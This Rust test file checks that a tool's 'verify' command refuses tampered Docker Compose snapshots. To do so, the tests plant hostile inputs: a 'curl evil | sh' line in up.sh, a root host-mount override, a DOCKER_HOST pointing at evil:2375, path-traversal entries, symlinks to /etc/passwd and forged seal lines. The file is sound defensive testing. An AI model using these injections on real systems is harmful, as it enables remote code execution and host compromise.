//! `verify` lists the files of a snapshot that regenesis did not write, and fails if Compose would use one.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::Place;
use serde_json::Value;

/// A snapshot with the files of its stack, as `regenesis compose` leaves it.
struct Snapshot(Place);

impl Snapshot {
    fn new() -> Self {
        let snapshot = Self(Place::with_sample());
        assert!(snapshot.command("compose").status.success());
        snapshot
    }

    fn path(&self) -> PathBuf {
        self.0.at("snapshot")
    }

    fn write(&self, file: &str, content: impl AsRef<[u8]>) {
        self.0.write(Path::new("snapshot").join(file), content);
    }

    fn edit(&self, file: &str, from: &str, to: &str) {
        self.0.edit(Path::new("snapshot").join(file), from, to);
    }

    fn command(&self, verb: &str) -> Output {
        let mut command = self.0.command(&[verb, "snapshot"]);
        if verb == "verify" {
            command.arg("--json");
        }
        command.output().unwrap()
    }

    /// Exit code, messages, and the list of foreign files.
    fn verify(&self) -> (Option<i32>, String, Vec<Value>) {
        let output = self.command("verify");
        let stderr = String::from_utf8(output.stderr).unwrap();
        let json: Value = serde_json::from_slice(&output.stdout).expect(&stderr);
        (output.status.code(), stderr, json["foreign"].as_array().unwrap().clone())
    }

    /// Asserts that the snapshot is refused with these words, and that JSON names the file.
    fn is_refused(&self, file: &str, says: &[&str]) {
        let (code, stderr, foreign) = self.verify();
        assert_eq!(code, Some(5), "{stderr}");
        assert!(says.iter().all(|words| stderr.contains(words)), "{says:?}: {stderr}");
        assert!(stderr.contains("hint: it may run commands on this machine"), "{stderr}");
        let named = |entry: &&Value| entry["path"] == file && entry["obeyed"] == true;
        assert_eq!(foreign.iter().filter(named).count(), 1, "{file}: {foreign:?}");
    }
}

#[test]
fn a_forged_seal_and_a_link_are_refused() {
    let snapshot = Snapshot::new();
    let sealed = std::fs::read_to_string(snapshot.path().join("docker-compose.yml")).unwrap();
    let (_, rest) = sealed.split_once('\n').unwrap();
    for seal in ["x\rname: other\rinclude:\r  - notes.txt\r", "x\u{2028}networks: {}\u{2028}"] {
        snapshot.write("docker-compose.yml", format!("# regenesis seal {seal}\n{rest}"));
        snapshot
            .is_refused("docker-compose.yml", &["line 1", "differs from the file that regenesis"]);
    }
    snapshot.write("elsewhere.yml", &sealed);
    std::fs::remove_file(snapshot.path().join("docker-compose.yml")).unwrap();
    symlink("elsewhere.yml", snapshot.path().join("docker-compose.yml")).unwrap();
    snapshot.is_refused("docker-compose.yml", &["is a link"]);
}

#[test]
fn the_project_that_up_sh_writes_is_accepted_in_its_own_directory_only() {
    let snapshot = Snapshot::new();
    let path = snapshot.path().canonicalize().unwrap();
    let script = "printf %s \"$1\" | sha256sum | cut -c 1-10";
    let sum = Command::new("sh").args(["-c", script, "sh"]).arg(&path).output().unwrap();
    let sum = String::from_utf8(sum.stdout).unwrap();
    snapshot.write(".env", format!("# mine\nCOMPOSE_PROJECT_NAME=snapshot-{sum}"));
    let (code, stderr, _) = snapshot.verify();
    assert_eq!(code, Some(0), "{stderr}");
    snapshot.write(".env", "COMPOSE_PROJECT_NAME=snapshot-1\n");
    snapshot.is_refused(".env", &["line 1", "COMPOSE_PROJECT_NAME"]);
}

#[test]
fn a_generated_snapshot_has_no_foreign_file() {
    let snapshot = Snapshot::new();
    let (code, stderr, foreign) = snapshot.verify();
    assert_eq!((code, foreign), (Some(0), vec![]), "{stderr}");
    assert!(snapshot.command("bake").status.success());
    let (code, stderr, foreign) = snapshot.verify();
    assert_eq!((code, foreign), (Some(0), vec![]), "{stderr}");
}

#[test]
fn files_that_compose_reads_are_refused() {
    const OVERRIDE: &str = "services: {init: {user: \"0:0\", volumes: [\"/:/host\"]}}\n";
    for name in [
        "docker-compose.override.yml",
        "docker-compose.override.yaml",
        "Docker-compose.Override.yml",
        "docker-compose.yaml",
        "compose.yaml",
        "compose.yml",
        "compose.override.yaml",
    ] {
        let snapshot = Snapshot::new();
        snapshot.write(name, OVERRIDE);
        snapshot.is_refused(name, &[&format!("snapshot/{name}: Compose would read it")]);
    }
    // Whatever it is: a link is followed, and a list of files does not vouch for one.
    let snapshot = Snapshot::new();
    snapshot.write("notes/x.yml", OVERRIDE);
    symlink("notes/x.yml", snapshot.path().join("compose.override.yml")).unwrap();
    snapshot.is_refused("compose.override.yml", &["Compose would read it"]);
    let snapshot = Snapshot::new();
    snapshot.write("compose.yml", OVERRIDE);
    let file = format!(
        r#""files": {{"compose.yml": {{"size": {}, "sha256": "{}"}},"#,
        OVERRIDE.len(),
        crate::support::sha256(OVERRIDE.as_bytes())
    );
    snapshot.edit("metadata.json", "\"files\": {", &file);
    let output = snapshot.command("verify");
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!output.status.success(), "{said}");
    assert!(said.contains("\"compose.yml\", which is not a snapshot file"), "{said}");
}

#[test]
fn an_edited_file_of_the_stack_is_refused_with_its_line() {
    let snapshot = Snapshot::new();
    snapshot.edit("docker-compose.yml", "65532:65532", "0:0");
    let text = std::fs::read_to_string(snapshot.path().join("docker-compose.yml")).unwrap();
    let line = 1 + text.lines().position(|line| line.contains("0:0")).unwrap();
    let says = format!("docker-compose.yml line {line}: differs from the file that regenesis");
    snapshot.is_refused("docker-compose.yml", &[&says, "Compose would run it"]);

    let snapshot = Snapshot::new();
    let script = std::fs::read_to_string(snapshot.path().join("up.sh")).unwrap();
    snapshot.write("up.sh", format!("{script}curl evil | sh\n"));
    snapshot.is_refused("up.sh", &["up.sh line ", "a shell would run it"]);

    let snapshot = Snapshot::new();
    snapshot.write("up.sh", "");
    snapshot.is_refused("up.sh", &["up.sh line 1: "]);
    // The stack of a chain with fulu is not that of one without.
    let snapshot = Snapshot::new();
    snapshot.edit("docker-compose.yml", "--supernode", "--subscribe-all-subnets");
    snapshot.is_refused("docker-compose.yml", &["Compose would run it"]);
}

#[test]
fn settings_that_choose_what_runs_are_refused_with_their_line() {
    for line in [
        "COMPOSE_FILE=docker-compose.yml:evil.yml",
        "export COMPOSE_PROJECT_NAME=other",
        "REGENESIS_IMAGE=evil",
        "GETH_IMAGE: evil",
        "BIND=0.0.0.0",
        "SNAPSHOT=/",
        "DOCKER_HOST=tcp://evil:2375",
    ] {
        let snapshot = Snapshot::new();
        snapshot.write(".env", format!("# my ports\nEL_HTTP_PORT=9545\n{line}\n"));
        snapshot.is_refused(".env", &["snapshot/.env line 3: sets ", "which Compose would apply"]);
    }
    let snapshot = Snapshot::new();
    snapshot.write(".env", "EL_HTTP_PORT=9545\nPRIVATE_KEY=0x1\nBIND=127.0.0.1\n");
    let (code, stderr, foreign) = snapshot.verify();
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(foreign.len(), 1, "{foreign:?}");
}

#[test]
fn all_refused_files_are_listed_at_once() {
    let snapshot = Snapshot::new();
    snapshot.write("compose.yml", "");
    snapshot.write(".env", "BIND=0.0.0.0\nCOMPOSE_FILE=x\n");
    snapshot.edit("up.sh", "set -eu", "set -e");
    let (code, stderr, _) = snapshot.verify();
    assert_eq!(code, Some(5), "{stderr}");
    assert_eq!(stderr.matches("error: ").count(), 4, "{stderr}");
}

#[test]
fn the_files_of_the_user_are_listed_but_accepted() {
    let snapshot = Snapshot::new();
    snapshot.write("NOTES.md", "mine");
    snapshot.write("contracts/Token.sol", "mine");
    snapshot.write("contracts/lib/compose.yml", "mine");
    snapshot.write("baked/mine", "mine");
    snapshot.write(".git/objects/aa/bb", "mine");
    snapshot.write(".git/config", "mine");
    std::fs::create_dir(snapshot.path().join("empty")).unwrap();
    symlink("NOTES.md", snapshot.path().join("inside")).unwrap();
    symlink("/etc/passwd", snapshot.path().join("outside")).unwrap();
    symlink("../..", snapshot.path().join("contracts/up")).unwrap();
    symlink("nowhere", snapshot.path().join("broken")).unwrap();
    symlink(".", snapshot.path().join("round")).unwrap();
    let fifo = Command::new("mkfifo").arg(snapshot.path().join("pipe")).status();
    assert!(fifo.unwrap().success());
    let (code, stderr, foreign) = snapshot.verify();
    assert_eq!(code, Some(0), "{stderr}");
    let paths: Vec<_> = foreign.iter().map(|entry| entry["path"].as_str().unwrap()).collect();
    let expected = [
        ".git/",
        "NOTES.md",
        "baked/mine",
        "broken",
        "contracts/Token.sol",
        "contracts/lib/compose.yml",
        "contracts/up",
        "empty/",
        "inside",
        "outside",
        "pipe",
        "round",
    ];
    assert_eq!(paths, expected);
    for says in [
        "snapshot/NOTES.md: regenesis did not write it",
        "snapshot/outside: a link that leads out of the snapshot, to /etc/passwd",
        "snapshot/contracts/up: a link that leads out of the snapshot, to ../..",
        "snapshot/broken: a link that leads out of the snapshot, to nowhere",
        "snapshot/pipe: a named pipe",
    ] {
        assert!(stderr.contains(says), "{says}: {stderr}");
    }
    assert!(foreign.iter().all(|entry| entry["obeyed"] == false), "{foreign:?}");
}

/// One of ours that is elsewhere is one of ours; that it is elsewhere is said.
#[test]
fn a_generated_file_in_another_place_is_listed() {
    let snapshot = Snapshot::new();
    let elsewhere = snapshot.0.path().join("config.yaml");
    let place = snapshot.path().join("cl/config.yaml");
    std::fs::rename(&place, &elsewhere).unwrap();
    symlink(&elsewhere, &place).unwrap();
    let (code, stderr, foreign) = snapshot.verify();
    assert_eq!((code, foreign.len()), (Some(0), 1), "{stderr}");
    assert!(stderr.contains("cl/config.yaml: a link that leads out"), "{stderr}");
}

#[test]
fn the_list_of_files_cannot_lead_out_of_the_snapshot() {
    for path in ["/etc/hostname", "../secret", "cl/../../secret"] {
        let snapshot = Snapshot::new();
        std::fs::write(snapshot.0.path().join("secret"), "x").unwrap();
        let sha256 = "00".repeat(32);
        let file = format!(r#""files": {{"{path}": {{"size": 1, "sha256": "{sha256}"}},"#);
        snapshot.edit("metadata.json", "\"files\": {", &file);
        let output = snapshot.command("verify");
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(5), "{stderr}");
        let says = format!("metadata.json: files lists {path:?}, outside the snapshot");
        assert!(stderr.contains(&says), "{stderr}");
    }
}

#[test]
fn an_endless_directory_is_not_followed() {
    let snapshot = Snapshot::new();
    for directory in 0..120 {
        let directory = snapshot.path().join(format!("many/{directory}"));
        std::fs::create_dir_all(&directory).unwrap();
        (0..100).for_each(|file| write_empty(&directory.join(file.to_string())));
    }
    let (code, stderr, foreign) = snapshot.verify();
    assert_eq!(code, Some(0), "{stderr}");
    assert!(foreign.len() < 10_100 && stderr.lines().count() < 50, "{}", foreign.len());
    assert!(stderr.contains("and more entries that were not examined"), "{stderr}");
    // Files that Compose reads are found nevertheless.
    snapshot.write("zz", "");
    snapshot.write("compose.yml", "");
    snapshot.is_refused("compose.yml", &["Compose would read it"]);
}

fn write_empty(path: &Path) {
    std::fs::write(path, "").unwrap();
}
